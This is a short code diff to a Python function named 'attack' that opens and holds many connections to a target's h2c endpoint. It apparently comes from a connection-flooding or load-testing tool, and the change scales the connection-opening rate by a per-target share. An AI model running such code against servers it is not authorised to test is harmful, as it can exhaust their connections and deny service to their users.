@@ -59,7 +59,7 @@ def attack(target, stop, connections=CONNECTIONS):
                 sock.close()
                 held.remove(sock)
                 counts["closed"] += 1
-            if len(held) < connections and counts["opened"] + counts["refused"] < OPENS_PER_S * (time.monotonic() - began + 1):
+            if len(held) < connections and counts["opened"] + counts["refused"] < OPENS_PER_S * target.share * (time.monotonic() - began + 1):
                 sock = connect(target.h2c, said)
                 counts["opened" if sock else "refused"] += 1
                 if sock:
